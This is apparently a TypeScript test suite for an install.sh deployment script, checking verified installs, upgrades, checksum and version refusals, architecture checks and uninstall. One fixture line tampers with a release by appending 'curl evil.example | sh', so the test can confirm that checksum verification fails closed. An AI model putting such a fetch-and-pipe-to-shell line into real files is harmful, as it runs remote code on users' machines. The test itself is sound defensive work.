// install.sh against releases served over HTTPS from 127.0.0.1, signed with
// a test key install.sh is given (tests/deploy/support/releases.ts), installing
// into a temporary root prefix: fresh install, idempotent re-run, upgrade,
// fail-closed checksum and version checks, local file, custom paths, extra
// flags, uninstall. What the release host cannot do (http, a swapped binary,
// another key) is in tests/security/install.test.ts.

import { createHash } from 'node:crypto';
import { execFileSync, spawnSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { missingCommand, missingRoot, testNeeding } from '../support/skip.ts';
import {
  ASSET,
  NAME,
  installerTrust,
  makeRelease,
  repoRoot,
  runScript,
  startReleaseServer,
  type ReleaseServer,
  type RunResult,
} from './support/releases.ts';

const installSh = join(repoRoot, 'install.sh');
const work = mkdtempSync(join(tmpdir(), 'install-test-'));
const timings: string[] = [];
let server: ReleaseServer;
const releases: Record<string, string> = {};

function sha256(path: string): string {
  return createHash('sha256').update(readFileSync(path)).digest('hex');
}

/** Every file under `dir` (relative path → size, mtime and inode), to prove what was or was not rewritten. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = join(d, name);
      const st = statSync(p);
      if (st.isDirectory()) walk(p);
      else out[relative(dir, p)] = `${st.size}/${st.mtimeMs}/${st.ino}`;
    }
  };
  if (existsSync(dir)) walk(dir);
  return out;
}

async function install(
  label: string,
  args: string[],
  env: Record<string, string> = {},
): Promise<RunResult & { requests: string[] }> {
  const before = server.requests.length;
  const res = await runScript(installSh, args, { ...installerTrust(work), ...env });
  timings.push(`${label}: ${res.ms.toFixed(0)} ms`);
  return { ...res, requests: server.requests.slice(before) };
}

function expectOk(res: RunResult): void {
  assert.is(res.code, 0, `install.sh failed:\n${res.stdout}\n${res.stderr}`);
}

test.before(async () => {
  server = await startReleaseServer();
  for (const version of ['0.1.0', '0.2.0']) {
    releases[version] = makeRelease(work, version);
    server.publish(version, releases[version]!);
  }
  // 0.3.0: SHA256SUMS of a good build, but the binary served was altered.
  const tampered = join(work, 'tampered');
  cpSync(makeRelease(work, '0.3.0'), tampered, { recursive: true });
  writeFileSync(join(tampered, ASSET), `${readFileSync(join(tampered, ASSET), 'utf8')}curl evil.example | sh\n`);
  server.publish('0.3.0', tampered);
  // 9.9.9: a directory whose binary reports another version.
  server.publish('9.9.9', releases['0.1.0']!);
});

test.after(async () => {
  await server.close();
  rmSync(work, { recursive: true, force: true });
  console.log(`install.sh timings (loopback server, stand-in binary):\n  ${timings.join('\n  ')}`);
});

const root = join(work, 'root');
const bin = join(root, 'usr/local/bin', NAME);
const unit = join(root, 'etc/systemd/system', `${NAME}.service`);
const envFile = join(root, 'etc', NAME, 'env');

test('a fresh install writes the verified binary, the unit, the environment file and the uninstall script', async () => {
  const res = await install('fresh install', ['--root', root, '--base-url', server.baseUrl, '--version', '0.1.0']);
  expectOk(res);
  assert.is(sha256(bin), sha256(join(releases['0.1.0']!, ASSET)));
  assert.is(statSync(bin).mode & 0o777, 0o755);
  assert.is(readFileSync(unit, 'utf8'), readFileSync(join(repoRoot, 'deploy/systemd', `${NAME}.service`), 'utf8'));
  assert.match(readFileSync(envFile, 'utf8'), /^VC_HNC_EXTRA_FLAGS=""$/m);
  assert.ok(existsSync(join(root, 'usr/local/bin', `${NAME}-uninstall.sh`)));
  assert.match(res.stdout, /Version: 0\.1\.0/, 'prints what the installed binary reports');
  assert.ok(res.requests.includes(`/releases/0.1.0/${ASSET}`));
  assert.match(res.stdout, /systemd was not touched/);
  assert.match(res.stderr, /no kubeconfig at .*\/etc\/vc-hypernode-controller-manager\/kubeconfig/);
});

test('re-running the same install downloads no binary and rewrites nothing', async () => {
  const before = snapshot(root);
  const res = await install('re-run (no-op)', ['--root', root, '--base-url', server.baseUrl, '--version', '0.1.0']);
  expectOk(res);
  assert.not.ok(
    res.requests.some((r) => r.endsWith(ASSET)),
    `binary fetched again: ${res.requests.join(', ')}`,
  );
  assert.equal(snapshot(root), before);
  assert.match(res.stdout, /already the wanted build/);
});

test('upgrading replaces only the binary', async () => {
  const before = snapshot(root);
  const res = await install('upgrade 0.1.0 -> 0.2.0', [
    '--root',
    root,
    '--base-url',
    server.baseUrl,
    '--version',
    '0.2.0',
  ]);
  expectOk(res);
  assert.is(sha256(bin), sha256(join(releases['0.2.0']!, ASSET)));
  assert.match(res.stdout, /Version: 0\.2\.0/);
  const after = snapshot(root);
  assert.is.not(after[`usr/local/bin/${NAME}`], before[`usr/local/bin/${NAME}`]);
  for (const file of [`etc/systemd/system/${NAME}.service`, `etc/${NAME}/env`, `usr/local/bin/${NAME}-uninstall.sh`]) {
    assert.is(after[file], before[file], `${file} was rewritten`);
  }
});

test('--infiniband adds the verified drop-in an InfiniBand host needs; later runs keep and update it; uninstall removes it', async () => {
  const ibRoot = join(work, 'root-ib');
  const dropIn = join(ibRoot, 'etc/systemd/system', `${NAME}.service.d`, 'infiniband.conf');
  const res = await install('fresh install --infiniband', [
    '--root',
    ibRoot,
    '--base-url',
    server.baseUrl,
    '--version',
    '0.1.0',
    '--infiniband',
  ]);
  expectOk(res);
  assert.is(readFileSync(dropIn, 'utf8'), readFileSync(join(repoRoot, 'deploy/systemd/infiniband.conf'), 'utf8'));
  assert.is(statSync(dropIn).mode & 0o777, 0o644);
  assert.ok(res.requests.includes(`/releases/0.1.0/${NAME}-infiniband.conf`));
  // An upgrade without the flag keeps the drop-in, fetched and verified again with the unit.
  const upgrade = await install('upgrade, drop-in kept', [
    '--root',
    ibRoot,
    '--base-url',
    server.baseUrl,
    '--version',
    '0.2.0',
  ]);
  expectOk(upgrade);
  assert.ok(upgrade.requests.includes(`/releases/0.2.0/${NAME}-infiniband.conf`));
  assert.ok(existsSync(dropIn));
  // Without --infiniband nothing of it is fetched on a host that never had it.
  const plain = await install('install without --infiniband', [
    '--root',
    join(work, 'root-plain'),
    '--base-url',
    server.baseUrl,
    '--version',
    '0.1.0',
  ]);
  assert.not.ok(plain.requests.some((r) => r.endsWith('-infiniband.conf')));
  const gone = await runScript(join(ibRoot, 'usr/local/bin', `${NAME}-uninstall.sh`), [], { INSTALL_ROOT: ibRoot });
  assert.is(gone.code, 0, gone.stderr);
  assert.not.ok(existsSync(join(ibRoot, 'etc/systemd/system', `${NAME}.service.d`)), 'the drop-in directory is gone');
});

test('a binary that does not match SHA256SUMS fails closed and leaves the installed one intact', async () => {
  const before = snapshot(root);
  const res = await install('checksum mismatch (fails)', [
    '--root',
    root,
    '--base-url',
    server.baseUrl,
    '--version',
    '0.3.0',
  ]);
  assert.is.not(res.code, 0);
  assert.match(res.stderr, new RegExp(`checksum mismatch for ${ASSET}.*nothing was installed or changed`));
  assert.equal(snapshot(root), before, 'no file added, removed or rewritten (no temporary file left either)');
});

test('a release whose binary reports another version than requested is refused', async () => {
  const before = snapshot(root);
  const res = await install('wrong version (fails)', [
    '--root',
    root,
    '--base-url',
    server.baseUrl,
    '--version',
    '9.9.9',
  ]);
  assert.is.not(res.code, 0);
  assert.match(res.stderr, /is not version 9\.9\.9; it reports: Version: 0\.1\.0/);
  assert.equal(snapshot(root), before);
});

test('a version given with a leading v, as release tags are, installs and is checked against the bare version', async () => {
  server.publish('v0.2.0', releases['0.2.0']!);
  const r = join(work, 'v-root');
  const res = await install('v-prefixed version', ['--root', r, '--base-url', server.baseUrl, '--skip-systemd'], {
    INSTALL_VC_HNC_VERSION: 'v0.2.0',
  });
  expectOk(res);
  assert.ok(res.requests.includes(`/releases/v0.2.0/${ASSET}`));
  assert.is(sha256(join(r, 'usr/local/bin', NAME)), sha256(join(releases['0.2.0']!, ASSET)));
  server.publish('v9.9.9', releases['0.1.0']!);
  const wrong = await install('v-prefixed wrong version (fails)', [
    '--root',
    join(work, 'v-wrong-root'),
    '--base-url',
    server.baseUrl,
    '--version',
    'v9.9.9',
    '--skip-systemd',
  ]);
  assert.is.not(wrong.code, 0);
  assert.match(wrong.stderr, /is not version 9\.9\.9; it reports: Version: 0\.1\.0/);
});

/** A PATH whose `uname -m` says `machine` (and whose `ldd --version` says musl, when asked). */
function machinePath(label: string, machine: string, musl = false): string {
  const dir = join(work, `path-${label}`);
  mkdirSync(dir);
  writeFileSync(join(dir, 'uname'), `#!/bin/sh\necho ${machine}\n`, { mode: 0o755 });
  if (musl) writeFileSync(join(dir, 'ldd'), '#!/bin/sh\necho "musl libc (x86_64)" >&2\nexit 1\n', { mode: 0o755 });
  return `${dir}:${process.env.PATH}`;
}

test('the executable is chosen by uname -m: x86_64 and aarch64 each get their own, verified against SHA256SUMS', async () => {
  for (const [machine, arch] of [
    ['x86_64', 'amd64'],
    ['aarch64', 'arm64'],
  ] as const) {
    const r = join(work, `machine-${machine}`);
    const res = await install(
      `uname -m ${machine}`,
      ['--root', r, '--base-url', server.baseUrl, '--version', '0.2.0', '--skip-systemd'],
      { PATH: machinePath(machine, machine) },
    );
    expectOk(res);
    const asset = `${NAME}-linux-${arch}`;
    assert.ok(res.requests.includes(`/releases/0.2.0/${asset}`), res.requests.join(', '));
    assert.is(sha256(join(r, 'usr/local/bin', NAME)), sha256(join(releases['0.2.0']!, asset)));
    assert.match(res.stdout, new RegExp(`Go OS/Arch: linux/${arch}`));
  }
});

test('other architectures and musl systems are refused before anything is downloaded or written', async () => {
  for (const machine of ['armv7l', 'riscv64', 's390x']) {
    const r = join(work, `refused-${machine}`);
    const res = await install(
      `uname -m ${machine} (refused)`,
      ['--root', r, '--base-url', server.baseUrl, '--version', '0.2.0'],
      { PATH: machinePath(machine, machine) },
    );
    assert.is.not(res.code, 0);
    assert.match(
      res.stderr,
      new RegExp(
        `unsupported machine architecture ${machine}: releases exist for amd64 \\(x86_64\\) and arm64 \\(aarch64\\) only`,
      ),
    );
    assert.equal(res.requests, []);
    assert.not.ok(existsSync(r));
  }
  const r = join(work, 'refused-musl');
  const res = await install('musl (refused)', ['--root', r, '--base-url', server.baseUrl, '--version', '0.2.0'], {
    PATH: machinePath('musl', 'x86_64', true),
  });
  assert.is.not(res.code, 0);
  assert.match(res.stderr, /this system uses the musl C library; the release executables need glibc/);
  assert.equal(res.requests, []);
  assert.not.ok(existsSync(r));
});

test('an unknown version fails with the URL it tried', async () => {
  const res = await install('missing version (fails)', [
    '--root',
    root,
    '--base-url',
    server.baseUrl,
    '--version',
    '7.0.0',
  ]);
  assert.is.not(res.code, 0);
  assert.match(res.stderr, new RegExp(`could not download ${server.baseUrl}/7\\.0\\.0/SHA256SUMS`));
});

test('without a release source the installer says how to give one', async () => {
  const res = await install('no source (fails)', ['--root', join(work, 'unused')]);
  assert.is.not(res.code, 0);
  assert.match(res.stderr, /no release source: set INSTALL_VC_HNC_BASE_URL or --base-url/);
  assert.not.ok(existsSync(join(work, 'unused')));
});

test('extra flags go to the environment file and survive a re-run that does not mention them', async () => {
  expectOk(
    await install('set extra flags', [
      '--root',
      root,
      '--base-url',
      server.baseUrl,
      '--version',
      '0.2.0',
      '--flags',
      '-v=2 --kube-api-qps=20',
    ]),
  );
  assert.match(readFileSync(envFile, 'utf8'), /^VC_HNC_EXTRA_FLAGS="-v=2 --kube-api-qps=20"$/m);
  expectOk(await install('re-run keeping flags', ['--root', root, '--base-url', server.baseUrl, '--version', '0.2.0']));
  assert.match(readFileSync(envFile, 'utf8'), /^VC_HNC_EXTRA_FLAGS="-v=2 --kube-api-qps=20"$/m);
  const bad = await install('quoted flags (fails)', [
    '--root',
    root,
    '--base-url',
    server.baseUrl,
    '--flags',
    '--master="x"',
  ]);
  assert.is.not(bad.code, 0);
  assert.match(bad.stderr, /extra flags cannot contain quotes/);
});

test('uninstall removes every file the installer wrote', async () => {
  const res = await install('uninstall', ['--uninstall', '--root', root]);
  expectOk(res);
  assert.equal(snapshot(root), {});
  assert.not.ok(existsSync(join(root, 'etc', NAME)));
  const again = await install('uninstall again (fails)', ['--uninstall', '--root', root]);
  assert.is.not(again.code, 0);
  assert.match(again.stderr, /nothing to uninstall/);
});

test('a local file installs from the environment variables, into custom paths, verified by the SHA256SUMS beside it', async () => {
  const localRoot = join(work, 'local-root');
  const res = await install('local file, custom paths', [], {
    INSTALL_ROOT: localRoot,
    INSTALL_VC_HNC_BIN_FILE: join(releases['0.2.0']!, ASSET),
    INSTALL_VC_HNC_BIN_DIR: '/opt/vc/bin',
    INSTALL_VC_HNC_KUBECONFIG: '/etc/kubernetes/hypernode.conf',
  });
  expectOk(res);
  assert.is(sha256(join(localRoot, 'opt/vc/bin', NAME)), sha256(join(releases['0.2.0']!, ASSET)));
  const installedUnit = readFileSync(join(localRoot, 'etc/systemd/system', `${NAME}.service`), 'utf8');
  assert.match(installedUnit, new RegExp(`^ExecStart=/opt/vc/bin/${NAME} \\\\$`, 'm'));
  assert.match(installedUnit, /^LoadCredential=kubeconfig:\/etc\/kubernetes\/hypernode\.conf$/m);
  assert.equal(
    server.requests.filter((r) => r.includes('local')),
    [],
  );

  // The same local file with a SHA256SUMS that disagrees is refused.
  const forged = join(work, 'forged');
  cpSync(releases['0.2.0']!, forged, { recursive: true });
  // Signed, but for another release.
  for (const f of ['SHA256SUMS', 'SHA256SUMS.sig'])
    writeFileSync(join(forged, f), readFileSync(join(releases['0.1.0']!, f)));
  const refused = await install('local file, bad SHA256SUMS (fails)', [
    '--root',
    join(work, 'forged-root'),
    '--bin-file',
    join(forged, ASSET),
  ]);
  assert.is.not(refused.code, 0);
  assert.match(refused.stderr, /checksum mismatch/);
  assert.equal(snapshot(join(work, 'forged-root')), {});

  // A build directory: the executable under its plain name, the unit beside it, no SHA256SUMS.
  const build = join(work, 'build-dir');
  mkdirSync(build);
  cpSync(join(releases['0.1.0']!, ASSET), join(build, NAME));
  cpSync(join(releases['0.1.0']!, `${NAME}.service`), join(build, `${NAME}.service`));
  const unverified = await install('local build, no SHA256SUMS', [
    '--root',
    join(work, 'build-root'),
    '--bin-file',
    join(build, NAME),
  ]);
  expectOk(unverified);
  assert.match(unverified.stderr, /no SHA256SUMS beside .*: installing it unverified/);
  assert.is(sha256(join(work, 'build-root/usr/local/bin', NAME)), sha256(join(build, NAME)));

  expectOk(
    await install('uninstall custom paths', ['--uninstall', '--root', localRoot, '--install-dir', '/opt/vc/bin']),
  );
  assert.equal(snapshot(localRoot), {});
});

test('--skip-systemd installs only the binary, its kubectl plugin link and the uninstall script', async () => {
  const r = join(work, 'skip-root');
  expectOk(
    await install('skip systemd', ['--root', r, '--base-url', server.baseUrl, '--version', '0.1.0', '--skip-systemd']),
  );
  assert.equal(Object.keys(snapshot(r)).sort(), [
    'usr/local/bin/kubectl-hypernode',
    `usr/local/bin/${NAME}`,
    `usr/local/bin/${NAME}-uninstall.sh`,
  ]);
  assert.is(
    readlinkSync(join(r, 'usr/local/bin/kubectl-hypernode')),
    NAME,
    'a relative link, valid wherever the prefix is',
  );
});

testNeeding(missingCommand('wget'))(
  'without curl the installer downloads with wget, and without either it says so',
  async () => {
    // A PATH holding only the tools install.sh uses, curl left out.
    const tools = [
      'awk',
      'cat',
      'chmod',
      'cmp',
      'cp',
      'cut',
      'dirname',
      'grep',
      'id',
      'ln',
      'mkdir',
      'mktemp',
      'mv',
      'openssl',
      'rm',
      'rmdir',
      'sed',
      'sh',
      'sha256sum',
      'uname',
      'wget',
    ];
    const pathDir = join(work, 'no-curl-bin');
    mkdirSync(pathDir);
    for (const tool of tools) {
      const found = execFileSync('sh', ['-c', `command -v ${tool}`], { encoding: 'utf8' }).trim();
      symlinkSync(found, join(pathDir, tool));
    }
    const r = join(work, 'wget-root');
    const res = await install(
      'fresh install with wget',
      ['--root', r, '--base-url', server.baseUrl, '--version', '0.2.0'],
      { PATH: pathDir },
    );
    expectOk(res);
    assert.is(sha256(join(r, 'usr/local/bin', NAME)), sha256(join(releases['0.2.0']!, ASSET)));
    assert.ok(res.requests.some((q) => q.endsWith(ASSET)));

    rmSync(join(pathDir, 'wget'));
    const none = await install(
      'neither curl nor wget (fails)',
      ['--root', join(work, 'no-tool-root'), '--base-url', server.baseUrl],
      { PATH: pathDir },
    );
    assert.is.not(none.code, 0);
    assert.match(none.stderr, /neither curl nor wget is installed/);
  },
);

/**
 * Runs `script` in a private mount namespace where /etc and /usr/local/bin are
 * overlays on a tmpfs and /run/systemd/system exists: install.sh then sees a
 * live systemd and writes the real paths, while the host never sees a change.
 */
async function inSystemdLookalike(script: string, env: Record<string, string>): Promise<RunResult> {
  const scratch = join(work, 'systemd-scratch');
  mkdirSync(scratch);
  const setup = join(work, 'systemd-lookalike.sh');
  writeFileSync(
    setup,
    `set -eu
# Mounting below would change the host: refuse unless in our own mount namespace.
[ "$(readlink /proc/self/ns/mnt)" != "${readlinkSync('/proc/self/ns/mnt')}" ] || { echo "not in a private mount namespace" >&2; exit 99; }
mount -t tmpfs tmpfs "${scratch}"
for d in etc usr/local/bin; do
  mkdir -p "${scratch}/$d/upper" "${scratch}/$d/work"
  mount -t overlay overlay -o "lowerdir=/$d,upperdir=${scratch}/$d/upper,workdir=${scratch}/$d/work" "/$d"
done
mount -t tmpfs tmpfs /run
mkdir -p /run/systemd/system
${script}
`,
  );
  return runScript(setup, [], env, 120_000, ['unshare', '--mount', '--propagation', 'private', 'sh']);
}

/** Why a private mount namespace cannot be made here, if it cannot. */
function missingMountNamespace(): string | undefined {
  const missing = missingRoot() ?? missingCommand('unshare', 'util-linux');
  if (missing) return missing;
  const probe = spawnSync('unshare', ['--mount', '--propagation', 'private', 'true'], { encoding: 'utf8' });
  return probe.status === 0 ? undefined : `unshare --mount fails here: ${probe.stderr.trim()}`;
}

testNeeding(missingMountNamespace())(
  'with systemd running: reload, enable and restart only when something changed; uninstall disables',
  async () => {
    const fakeBin = join(work, 'fake-systemctl');
    mkdirSync(fakeBin);
    const calls = join(work, 'systemctl.log');
    writeFileSync(join(fakeBin, 'systemctl'), `#!/bin/sh\necho "systemctl $*" >> "${calls}"\n`, { mode: 0o755 });
    const step = (name: string, args: string) => `echo "== ${name}" >> "${calls}"\nsh "${installSh}" ${args}`;
    const src = `--base-url ${server.baseUrl}`;
    const script = [
      `mkdir -p /etc/${NAME} && echo 'apiVersion: v1' > /etc/${NAME}/kubeconfig`,
      step('install', `${src} --version 0.1.0`),
      step('re-run', `${src} --version 0.1.0`),
      step('new flags', `${src} --version 0.1.0 --flags -v=2`),
      step('upgrade', `${src} --version 0.2.0`),
      step('downgrade, no start', `${src} --version 0.1.0 --skip-start`),
      step('uninstall', '--uninstall'),
      `test ! -e /usr/local/bin/${NAME} && test ! -e /etc/systemd/system/${NAME}.service && test ! -e /etc/${NAME}/env`,
    ].join('\n');
    const res = await inSystemdLookalike(script, { ...installerTrust(work), PATH: `${fakeBin}:${process.env.PATH}` });
    timings.push(`systemd look-alike sequence (6 runs): ${res.ms.toFixed(0)} ms`);
    expectOk(res);
    const log = readFileSync(calls, 'utf8');
    const unit = `${NAME}.service`;
    assert.is(
      log,
      [
        '== install',
        'systemctl daemon-reload',
        `systemctl enable ${unit}`,
        `systemctl restart ${unit}`,
        '== re-run',
        '== new flags',
        'systemctl daemon-reload',
        `systemctl enable ${unit}`,
        `systemctl restart ${unit}`,
        '== upgrade',
        `systemctl enable ${unit}`,
        `systemctl restart ${unit}`,
        '== downgrade, no start',
        `systemctl enable ${unit}`,
        '== uninstall',
        `systemctl disable --now ${unit}`,
        'systemctl daemon-reload',
        '',
      ].join('\n'),
    );
    assert.not.ok(existsSync(`/etc/${NAME}`), 'the host was not touched');
  },
);

testNeeding(missingCommand('shellcheck'))(
  'install.sh and the uninstall script it writes are clean under shellcheck',
  async () => {
    const r = join(work, 'lint-root');
    expectOk(
      await install('install for lint', [
        '--root',
        r,
        '--base-url',
        server.baseUrl,
        '--version',
        '0.1.0',
        '--skip-systemd',
      ]),
    );
    for (const script of [installSh, join(r, 'usr/local/bin', `${NAME}-uninstall.sh`)]) {
      try {
        execFileSync('shellcheck', ['-s', 'sh', script], { encoding: 'utf8' });
      } catch (err) {
        assert.unreachable(`shellcheck ${script}:\n${(err as { stdout?: string }).stdout}`);
      }
    }
  },
);

test.run();
